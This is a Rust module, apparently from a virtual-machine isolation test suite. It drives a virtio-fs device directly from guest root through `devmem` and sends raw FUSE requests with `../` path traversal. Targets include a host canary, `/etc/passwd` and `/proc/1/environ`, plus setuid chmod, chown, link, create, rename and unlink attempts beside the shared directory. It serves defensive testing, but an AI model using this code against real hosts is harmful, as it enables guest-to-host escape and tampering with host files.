//! Requests that no honest kernel sends to a virtio-fs device: the device is driven from here, past the
//! guest's kernel, which would never let a name with `..` through.
//!
//! Root of a guest reaches the device's registers with `devmem` of busybox and knows the physical address
//! of its own memory from `pagemap`, so no kernel has to be replaced for it.

use std::fs::File;
use std::io;
use std::os::unix::fs::FileExt;
use std::process::Command;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};

use crate::attempts::{attempt, say};

const PAGE_BYTES: u64 = 4096;

/// A file system, among the device types of virtio 1.2, section 5.
const FILE_SYSTEM: u32 = 26;

/// Registers of virtio-mmio (virtio 1.2, section 4.2.2).
const DEVICE_ID: u64 = 0x8;
const DRIVER_FEATURES: u64 = 0x20;
const DRIVER_FEATURES_SELECT: u64 = 0x24;
const QUEUE_SELECT: u64 = 0x30;
const QUEUE_SIZE: u64 = 0x38;
const QUEUE_READY: u64 = 0x44;
const QUEUE_NOTIFY: u64 = 0x50;
const STATUS: u64 = 0x70;
/// Of descriptors, available and used ring.
const QUEUE_ADDRESSES: [u64; 3] = [0x80, 0x90, 0xa0];
const CONFIG: u64 = 0x100;

/// Where things are in the page: the three parts of the queue, a request, its answer.
const PLACES: [u64; 3] = [0, 0x100, 0x200];
const REQUEST: u64 = 0x400;
const ANSWER: u64 = 0x800;
const ANSWER_BYTES: u32 = 0x800;

/// The second queue is the one for requests.
const REQUESTS: u32 = 1;
const ENTRIES: u16 = 8;

/// How long an answer may take.
const PATIENCE: Duration = Duration::from_secs(5);

/// Opcodes, and `fuse_setattr_in.valid` (linux/fuse.h).
const LOOKUP: u32 = 1;
const GETATTR: u32 = 3;
const SETATTR: u32 = 4;
const SYMLINK: u32 = 6;
const MKDIR: u32 = 9;
const UNLINK: u32 = 10;
const RENAME: u32 = 12;
const LINK: u32 = 13;
const OPEN: u32 = 14;
const READ: u32 = 15;
const SETXATTR: u32 = 21;
const INIT: u32 = 26;
const OPENDIR: u32 = 27;
const CREATE: u32 = 35;
const SET_MODE: u32 = 1;
const SET_OWNER: u32 = 2 | 4;
const ROOT: u64 = 1;

/// A virtio-fs device that is ours.
struct Device {
    registers: u64,
    memory: File,
    /// Address of the page here, and in the machine.
    page: u64,
    physical: u64,
    sent: u16,
    /// Keeps the page.
    _memory: Vec<u8>,
}

/// `value` is the tag of the device, whose file system is not mounted any more, and the path of the
/// canary on the host, which lies beside the shared directory.
pub(crate) fn try_all(value: &str) -> Result<()> {
    let (tag, canary) = value.split_once(',').context("TAG,CANARY")?;
    let mut device = Device::take(tag)?;
    say(&format!("has taken {tag}"));
    // Version 7.38; no flags.
    let init = numbers(&[7, 38, 0, 0]);
    device.request(INIT, ROOT, &init).context("FUSE_INIT")?;
    let own = device.look_up("inside")?;
    attempt_read(&mut device, own).context("the device does what it should")?;
    let up = "../".repeat(40);
    let canaries = ["../canary", &format!("{up}{canary}"), canary];
    for (i, name) in canaries.into_iter().enumerate() {
        let label = format!("{tag}/{i}");
        if let Some(node) = device.reach(&label, name) {
            device.change(&label, node);
        }
    }
    // There is one everywhere, but where there is nothing.
    for name in ["/etc/passwd", "/proc/1/environ", "/proc/self/root/etc/passwd"] {
        device.reach(&format!("{tag}{name}"), name);
    }
    let beside = canary.strip_suffix("canary").context("the canary's directory")?;
    device.change_beside(tag, &format!("{up}{beside}"));
    Ok(())
}

impl Device {
    /// Resets the device, and starts it anew with a queue of ours.
    fn take(tag: &str) -> Result<Self> {
        let registers = find(tag)?;
        let count = usize::try_from(2 * PAGE_BYTES)?;
        let memory = vec![1_u8; count];
        let page = (memory.as_ptr() as u64).next_multiple_of(PAGE_BYTES);
        let file = File::options().read(true).write(true).open("/proc/self/mem")?;
        let device = Self {
            registers,
            physical: physical(page)?,
            memory: file,
            page,
            sent: 0,
            _memory: memory,
        };
        device.memory.write_all_at(&[0; 4096], page)?;
        device.set(STATUS, 0)?;
        device.set(STATUS, 1)?;
        device.set(STATUS, 3)?;
        // Version 1, the first bit of the second word.
        device.set(DRIVER_FEATURES_SELECT, 1)?;
        device.set(DRIVER_FEATURES, 1)?;
        device.set(STATUS, 11)?;
        device.set(QUEUE_SELECT, REQUESTS)?;
        device.set(QUEUE_SIZE, ENTRIES.into())?;
        for (register, place) in QUEUE_ADDRESSES.into_iter().zip(PLACES) {
            let address = device.physical + place;
            device.set(register, u32::try_from(address & 0xffff_ffff)?)?;
            device.set(register + 4, u32::try_from(address >> 32)?)?;
        }
        device.set(QUEUE_READY, 1)?;
        device.set(STATUS, 15)?;
        ensure!(register(registers + STATUS, None)? == 15, "the device does not start");
        Ok(device)
    }

    fn set(&self, offset: u64, value: u32) -> Result<()> {
        register(self.registers + offset, Some(value)).map(drop)
    }

    fn write(&self, offset: u64, bytes: &[u8]) -> io::Result<()> {
        self.memory.write_all_at(bytes, self.page + offset)
    }

    fn read(&self, offset: u64, bytes: &mut [u8]) -> io::Result<()> {
        self.memory.read_exact_at(bytes, self.page + offset)
    }

    /// Sends one request as root, and waits for its answer.
    fn request(&mut self, opcode: u32, node: u64, body: &[u8]) -> io::Result<Vec<u8>> {
        let bytes = u32::try_from(40 + body.len()).map_err(io::Error::other)?;
        let mut request = numbers(&[bytes, opcode, u32::from(self.sent), 0]);
        request.extend(node.to_le_bytes());
        request.extend([0; 16]);
        request.extend(body);
        self.write(REQUEST, &request)?;
        self.write(ANSWER, &[0; 16])?;
        for (i, (place, bytes, flags)) in
            [(REQUEST, bytes, 1_u16), (ANSWER, ANSWER_BYTES, 2)].into_iter().enumerate()
        {
            let mut descriptor = (self.physical + place).to_le_bytes().to_vec();
            descriptor.extend(bytes.to_le_bytes());
            // The first has a next, the second is written to.
            descriptor.extend(flags.to_le_bytes());
            descriptor.extend(1_u16.to_le_bytes());
            self.write(PLACES[0] + 16 * i as u64, &descriptor)?;
        }
        self.write(PLACES[1] + 4 + 2 * u64::from(self.sent % ENTRIES), &[0, 0])?;
        self.sent = self.sent.wrapping_add(1);
        self.write(PLACES[1] + 2, &self.sent.to_le_bytes())?;
        self.set(QUEUE_NOTIFY, REQUESTS).map_err(io::Error::other)?;
        self.answer()
    }

    fn answer(&self) -> io::Result<Vec<u8>> {
        let start = Instant::now();
        let mut used = [0; 2];
        while u16::from_le_bytes(used) != self.sent {
            if start.elapsed() > PATIENCE {
                return Err(io::ErrorKind::TimedOut.into());
            }
            std::thread::sleep(Duration::from_millis(1));
            self.read(PLACES[2] + 2, &mut used)?;
        }
        let mut answer = vec![0; ANSWER_BYTES as usize];
        self.read(ANSWER, &mut answer)?;
        match i32::from_le_bytes(answer[4..8].try_into().unwrap_or_default()) {
            0 => Ok(answer.split_off(16)),
            error => Err(io::Error::from_raw_os_error(-error)),
        }
    }

    fn look_up(&mut self, name: &str) -> io::Result<u64> {
        let entry = self.request(LOOKUP, ROOT, &text(name))?;
        Ok(number(&entry))
    }

    /// Looks up a name that leads out, and looks at what is there.
    fn reach(&mut self, label: &str, name: &str) -> Option<u64> {
        let found = self.look_up(name);
        let node = found.as_ref().ok().copied();
        attempt(&format!("raw-lookup/{label}"), found);
        let node = node?;
        attempt(&format!("raw-getattr/{label}"), self.request(GETATTR, node, &[0; 16]));
        attempt(&format!("raw-read/{label}"), attempt_read(self, node));
        attempt(&format!("raw-opendir/{label}"), self.request(OPENDIR, node, &[0; 8]));
        Some(node)
    }

    /// Does to a file all that changes it.
    fn change(&mut self, label: &str, node: u64) {
        attempt(&format!("raw-open-write/{label}"), self.request(OPEN, node, &numbers(&[1, 0])));
        let mut attributes = numbers(&[SET_MODE, 0]);
        attributes.extend([0; 60]);
        attributes.extend(numbers(&[0o6777, 0, 0, 0, 0]));
        attempt(&format!("raw-chmod/{label}"), self.request(SETATTR, node, &attributes));
        let mut attributes = numbers(&[SET_OWNER, 0]);
        attributes.extend([0; 60]);
        attributes.extend(numbers(&[0, 0, 1000, 1000, 0]));
        attempt(&format!("raw-chown/{label}"), self.request(SETATTR, node, &attributes));
        let mut xattr = numbers(&[1, 0]);
        xattr.extend(text("user.planted"));
        xattr.extend(b"1");
        attempt(&format!("raw-setxattr/{label}"), self.request(SETXATTR, node, &xattr));
        let mut link = node.to_le_bytes().to_vec();
        link.extend(text("stolen"));
        attempt(&format!("raw-link/{label}"), self.request(LINK, ROOT, &link));
    }

    /// Makes, moves and removes files in the directory that the shared one is in.
    fn change_beside(&mut self, tag: &str, directory: &str) {
        let beside = |name: &str| text(&format!("{directory}{name}"));
        // Flags: write only, and create.
        let create = [numbers(&[0o101, 0o644, 0, 0]), beside("planted")].concat();
        attempt(&format!("raw-create/{tag}"), self.request(CREATE, ROOT, &create));
        let mkdir = [numbers(&[0o755, 0]), beside("planted-directory")].concat();
        attempt(&format!("raw-mkdir/{tag}"), self.request(MKDIR, ROOT, &mkdir));
        let symlink = [beside("planted-link"), text("/etc")].concat();
        attempt(&format!("raw-symlink/{tag}"), self.request(SYMLINK, ROOT, &symlink));
        let renames = [
            ("in", beside("canary"), text("stolen")),
            ("out", text("inside"), beside("planted")),
            ("beside", beside("canary"), beside("moved")),
        ];
        for (name, from, to) in renames {
            let rename = [ROOT.to_le_bytes().to_vec(), from, to].concat();
            attempt(&format!("raw-rename-{name}/{tag}"), self.request(RENAME, ROOT, &rename));
        }
        let unlink = self.request(UNLINK, ROOT, &beside("canary"));
        attempt(&format!("raw-unlink/{tag}"), unlink);
    }
}

/// Opens a file, reads from it and says what is there.
fn attempt_read(device: &mut Device, node: u64) -> io::Result<()> {
    let handle = number(&device.request(OPEN, node, &numbers(&[0, 0]))?);
    let mut read = [handle.to_le_bytes(), 0_u64.to_le_bytes()].concat();
    read.extend(numbers(&[1024, 0, 0, 0, 0, 0]));
    let content = device.request(READ, node, &read)?;
    let end = content.iter().position(|&byte| byte == 0).unwrap_or(content.len());
    say(&format!("content {}", String::from_utf8_lossy(&content[..end])));
    Ok(())
}

/// The registers of the file system with this tag.
fn find(tag: &str) -> Result<u64> {
    let map = std::fs::read_to_string("/proc/iomem")?;
    for line in map.lines().filter(|line| line.contains("virtio")) {
        let start = line.trim().split('-').next().unwrap_or_default();
        let registers = u64::from_str_radix(start, 16)?;
        if register(registers + DEVICE_ID, None)? != FILE_SYSTEM {
            continue;
        }
        let words = (0..9).map(|i| register(registers + CONFIG + 4 * i, None));
        let bytes: Vec<u8> =
            words.collect::<Result<Vec<u32>>>()?.into_iter().flat_map(u32::to_le_bytes).collect();
        if bytes.split(|&byte| byte == 0).next() == Some(tag.as_bytes()) {
            return Ok(registers);
        }
    }
    anyhow::bail!("no file system `{tag}` in {map}")
}

/// Reads or writes a register.
fn register(address: u64, value: Option<u32>) -> Result<u32> {
    let mut devmem = Command::new("devmem");
    devmem.arg(format!("{address:#x}")).arg("32").args(value.map(|value| value.to_string()));
    let output = devmem.output().context("devmem")?;
    ensure!(output.status.success(), "devmem {address:#x}: {output:?}");
    if value.is_some() {
        return Ok(0);
    }
    let text = String::from_utf8(output.stdout)?;
    Ok(u32::from_str_radix(text.trim().trim_start_matches("0x"), 16)?)
}

/// The physical address of a page of this process (Documentation/admin-guide/mm/pagemap.rst).
fn physical(page: u64) -> Result<u64> {
    let mut entry = [0; 8];
    File::open("/proc/self/pagemap")?.read_exact_at(&mut entry, page / PAGE_BYTES * 8)?;
    let frame = u64::from_le_bytes(entry) & ((1 << 55) - 1);
    ensure!(frame != 0, "the kernel hides physical addresses");
    Ok(frame * PAGE_BYTES)
}

fn text(text: &str) -> Vec<u8> {
    [text.as_bytes(), &[0]].concat()
}

fn numbers(numbers: &[u32]) -> Vec<u8> {
    numbers.iter().flat_map(|number| number.to_le_bytes()).collect()
}

/// The first number of an answer: a node, or a handle.
fn number(answer: &[u8]) -> u64 {
    u64::from_le_bytes(answer[..8].try_into().unwrap_or_default())
}
